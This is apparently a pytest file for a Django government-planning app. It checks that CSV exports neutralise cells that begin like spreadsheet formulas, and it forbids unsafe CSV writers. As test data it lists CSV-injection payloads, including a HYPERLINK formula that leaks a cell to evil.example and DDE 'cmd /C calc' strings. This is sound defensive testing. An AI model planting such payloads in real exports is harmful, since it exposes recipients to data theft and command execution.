"""Issue 16, item 9: every CSV GovPlan writes keeps a text that starts like a formula a text,
as the XLSX exports already do; and no CSV writer can be added that forgets it."""

from __future__ import annotations

import csv
import datetime as dt
import io
import re
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from django.test import Client
from django.urls import reverse

from govplan.core.csvsafe import csv_cell, writer
from govplan.core.printable import printable
from govplan.documents.models import Document
from govplan.national import budgets
from govplan.national.budgets import Line
from govplan.national.exports import to_csv
from govplan.national.pivot_table import PivotTable
from govplan.official import export_worker
from tests.conftest import Cast
from tests.national.money_set import MoneySet, build
from tests.national.test_budgets import FRAMEWORK

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    '＝HYPERLINK("http://evil.example")',
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    "\u22121+1",
    "  =1+1",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_a_formula_start_is_written_behind_an_apostrophe(value: str) -> None:
    assert csv_cell(value) == "'" + printable(value)


@pytest.mark.parametrize(
    "value, expected",
    [
        ("Hà Nội", "Hà Nội"),
        ("-12.5", "-12.5"),  # a plain negative number is a number, not a formula
        (Decimal("-3.25"), "-3.25"),
        (-7, "-7"),
        (None, ""),
        ("KH-CDS 2027", "KH-CDS 2027"),
        ("a=b", "a=b"),  # only the start counts
    ],
)
def test_ordinary_values_are_written_as_they_are(value: Any, expected: str) -> None:
    assert csv_cell(value) == expected


def test_the_writer_reads_back_what_was_meant() -> None:
    out = io.StringIO()
    writer(out).writerow(["=1+1", "Bắc Ninh", 5])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["'=1+1", "Bắc Ninh", "5"]


def test_the_export_manifest_does_not_run_a_hostile_official_number(
    cast: Cast, document_a: Document
) -> None:
    """The issue's example: an official number ``=HYPERLINK(…)`` in danh-sach.csv."""
    document_a.issued_number = HOSTILE[0]
    document_a.issued_date = dt.date(2026, 12, 1)
    document_a.title = "@SUM(A1)"
    text = export_worker._manifest(None, [(document_a, [("24-x/ke-hoach.docx", Path("x"))])])  # type: ignore[arg-type]
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[1][5] == "'" + HOSTILE[0]
    assert rows[1][3] == "'@SUM(A1)"
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def test_the_pivot_csv_does_not_run_a_hostile_label() -> None:
    text = to_csv(PivotTable(), [("=1+1", '+HYPERLINK("x")'), ("Năm", "2027")])
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"))))
    assert rows[0] == ["'=1+1", '\'+HYPERLINK("x")']
    assert rows[1] == ["Năm", "2027"]


def test_the_budget_csv_does_not_run_a_hostile_label(
    cast: Cast, monkeypatch: pytest.MonkeyPatch
) -> None:
    money: MoneySet = build(cast)
    assert money is not None
    hostile = [
        Line(code="=cmd|' /C calc'!A0", label=HOSTILE[0], amount=Decimal("12.5")),
        Line(code="ok", label="Ngân sách", amount=Decimal("-3")),
    ]
    monkeypatch.setattr(budgets, "breakdown", lambda *args, **kwargs: hostile)
    client = Client()
    client.force_login(cast.central_admin)
    response = client.get(
        reverse("national_budget_export", args=["csv"]), {"framework": FRAMEWORK, "by": "source"}
    )
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[1] == ["'=cmd|' /C calc'!A0", "'" + HOSTILE[0], "12.5"]
    assert rows[2] == ["ok", "Ngân sách", "-3"]


GOVPLAN = Path(__file__).resolve().parents[2] / "govplan"
_WRITER = re.compile(
    r"\bcsv\s*\.\s*(?:writer|DictWriter)\b"
    r"|from\s+csv\s+import[^\n]*\b(?:writer|DictWriter)\b"
)


def test_no_csv_writer_outside_the_safe_helper() -> None:
    """A new ``csv.writer`` that bypasses ``govplan.core.csvsafe`` fails here: use
    ``csvsafe.writer`` instead."""
    offenders = [
        f"{path.relative_to(GOVPLAN.parent)}:{text[: match.start()].count(chr(10)) + 1}"
        for path in sorted(GOVPLAN.rglob("*.py"))
        if path.name != "csvsafe.py"
        for text in [path.read_text(encoding="utf-8")]
        for match in _WRITER.finditer(text)
    ]
    assert offenders == []
